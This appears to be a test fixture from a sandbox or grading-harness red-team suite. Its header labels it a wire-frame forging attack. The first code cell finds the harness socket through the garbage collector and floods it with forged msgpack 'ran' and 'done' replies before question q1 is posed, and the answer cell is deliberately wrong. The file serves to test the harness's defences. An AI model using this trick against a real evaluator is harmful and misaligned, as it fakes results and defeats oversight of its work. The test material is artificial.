# ---
# attack: 'Sends answers before anything was asked: for the next cells, the function and its results.'
# class: forging or flooding wire frames and handles
# sandboxes: [namespaces, off]
# detected: answered something else
# ---
# %% before="q1"
import gc
import socket
import struct

import msgspec

sockets = [thing for thing in gc.get_objects() if type(thing) is socket.socket]
wire = next(thing for thing in sockets if thing.fileno() >= 0)


def frame(*reply):
    head = msgspec.msgpack.encode(reply)
    return struct.pack("<IQ", len(head), 0) + head


ran = frame("ran", None, "", False)
wire.sendall(ran * 3 + frame("done", [4, 1, "function", None]) + frame("done", 4) * 20)

# %% question="q1"
def double(x):
    return np.asarray(x) ** 2
